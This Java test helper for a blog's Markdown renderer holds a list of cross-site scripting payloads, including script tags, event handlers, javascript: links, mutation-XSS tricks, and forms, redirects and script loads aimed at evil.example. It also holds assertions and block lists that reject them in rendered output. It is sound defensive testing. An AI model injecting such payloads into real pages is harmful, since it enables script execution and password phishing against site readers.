package blog.suite;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;

/// Markdown that tries to run something in the reader's browser, and what no rendering of it may hold.
public final class Mischief {
    private static final Set<String> RUNNING = Set.of(
            "script",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "button",
            "meta",
            "link",
            "base",
            "style",
            "svg",
            "math",
            "applet",
            "frame",
            "frameset",
            "template",
            "noscript",
            "textarea",
            "select",
            "portal");
    private static final Set<String> HARMLESS_SCHEMES = Set.of("http:", "https:", "mailto:", "data:image");

    private Mischief() {}

    public static Stream<String> markdown() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\" jav&#x09;ascript:alert(1)\">x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt&colon;alert(1))",
                "[x](vbscript:msgbox)",
                "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                "[x][1]\n\n[1]: javascript:alert(1) \"title\"",
                "<javascript:alert(1)>",
                "![x](javascript:alert(1))",
                "![x](x \"\\\" onerror=alert(1) y=\\\"\")",
                "[x](https://a.example/\"onmouseover=\"alert(1))",
                "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<form action=https://evil.example><input name=password><button>go</button></form>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<base href=https://evil.example/>",
                "<style>@import 'https://evil.example/x.css'</style>",
                "<p style=\"background:url(javascript:alert(1))\" onclick=\"alert(1)\">x</p>",
                "<!--><script>alert(1)</script>-->",
                "<div><p>x</div><script>alert(1)//",
                "`<script>alert(1)</script>`",
                "text\n{: onclick=\"alert(1)\" style=\"position:fixed\"}",
                "\u0000<scr\u0000ipt>alert(1)</script>".replace("\u0000", "&#0;"));
    }

    /// Fails the check when the page holds an element, an attribute or an address that could run something.
    public static void assertHarmless(Document html) {
        for (Element element : html.body().getAllElements()) {
            assertThat(RUNNING).as("elements of %s", html.body()).doesNotContain(element.normalName());
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                assertThat(name).as("attributes of %s", element).doesNotStartWith("on");
                if (Set.of("href", "src", "action", "xlink:href", "formaction").contains(name)) {
                    assertHarmlessAddress(attribute.getValue());
                }
                if (name.equals("style")) {
                    assertThat(attribute.getValue()).doesNotContain("url(", "expression", "position");
                }
            }
        }
    }

    private static void assertHarmlessAddress(String address) {
        String bare = address.replaceAll("[\\s\\p{Cntrl}]", "").toLowerCase(Locale.ROOT);
        int colon = bare.indexOf(':');
        int slash = bare.indexOf('/');
        boolean hasScheme = colon >= 0 && (slash < 0 || colon < slash);
        assertThat(!hasScheme || HARMLESS_SCHEMES.stream().anyMatch(bare::startsWith))
                .as("address %s", address)
                .isTrue();
    }
}
